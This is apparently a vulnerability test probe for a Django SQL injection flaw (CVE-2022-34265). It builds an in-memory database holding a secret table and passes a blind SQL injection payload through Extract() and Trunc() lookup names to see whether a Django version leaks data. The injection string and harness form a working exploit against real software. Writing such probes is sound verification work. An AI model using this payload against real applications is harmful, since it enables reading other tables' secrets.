# /// vertice-probe
# id = "PYSEC-2022-213"
# aliases = ["CVE-2022-34265", "GHSA-p64x-8rxx-wf6q"]
# package = "django"
# summary = """\
#   Extract() and Trunc() put the name of the date part into the SQL unchecked, so a part chosen by the request \
#   injects SQL."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-89"]
# kind = "sqli"
# symbols = ["django.db.models.functions.Extract", "django.db.models.functions.Trunc"]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "3.2" },
#   { fixed = "3.2.14" },
#   { introduced = "4.0" },
#   { fixed = "4.0.6" },
# ] }]
#
# [cases]
# attack = "a lookup name with a subquery tells about a secret of another table"
# [cases.variants]
# trunc = "the same through the kind of Trunc()"
# [cases.controls]
# parts = "ordinary parts work"
#
# [test]
# vulnerable = "4.0.5"
# fixed = "4.0.6"
# python = "<3.13"
# ///
"""CVE-2022-34265: SQL injection through date parts."""

import datetime as dt
import json
import sys


def prepare():
    """A model in a database in memory, and a table with a secret beside it."""
    import django
    from django.conf import settings

    settings.configure(
        DATABASES={"default": {"ENGINE": "django.db.backends.sqlite3", "NAME": ":memory:"}},
        DEFAULT_AUTO_FIELD="django.db.models.AutoField",
        USE_TZ=False,
    )
    django.setup()
    from django.db import connection, models

    class Item(models.Model):
        name = models.CharField(max_length=9)
        born = models.DateField()

        class Meta:
            app_label = "probe"
            db_table = "probe_item"

    with connection.schema_editor() as editor:
        editor.create_model(Item)
    with connection.cursor() as cursor:
        cursor.execute("create table probe_secret (code text)")
        cursor.execute("insert into probe_secret values ('sesame')")
    Item.objects.create(name="a", born=dt.date(2020, 5, 17))
    return Item


GUESS = "' || (select case when substr(code, 1, 1) = '%s' then 'year' else 'month' end from probe_secret) || '"


def judge(value, year, month):
    """`value` gives the item's date part for a lookup name."""
    if (value("year"), value("month")) != (year, month):
        raise RuntimeError("the function does not work: %r" % (value("year"),))
    try:
        right, wrong = value(GUESS % "s"), value(GUESS % "t")
    except ValueError as error:
        if "Invalid" in str(error):
            return "blocked", "ValueError: %s" % str(error)[:40]
        raise
    if (right, wrong) == (year, month):
        return "exploited", "the result tells whether a guess at the secret is right: %s or %s" % (right, wrong)
    raise RuntimeError("neither injected nor refused: %r %r" % (right, wrong))


def attack():
    item = prepare()
    from django.db.models.functions import Extract

    return judge(lambda name: item.objects.annotate(part=Extract("born", name)).get().part, 2020, 5)


def trunc():
    item = prepare()
    from django.db.models import DateField
    from django.db.models.functions import Trunc

    return judge(
        lambda kind: item.objects.annotate(part=Trunc("born", kind, output_field=DateField())).get().part,
        dt.date(2020, 1, 1),
        dt.date(2020, 5, 1),
    )


def parts():
    item = prepare()
    from django.db.models.functions import Extract, ExtractDay, TruncMonth

    row = item.objects.annotate(a=Extract("born", "quarter"), b=ExtractDay("born"), c=TruncMonth("born")).get()
    got = (row.a, row.b, str(row.c), item.objects.filter(born__year=2020).count())
    return ("works" if got == (2, 17, "2020-05-01", 1) else "broken"), repr(got)


CASES = {"attack": attack, "trunc": trunc, "parts": parts}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
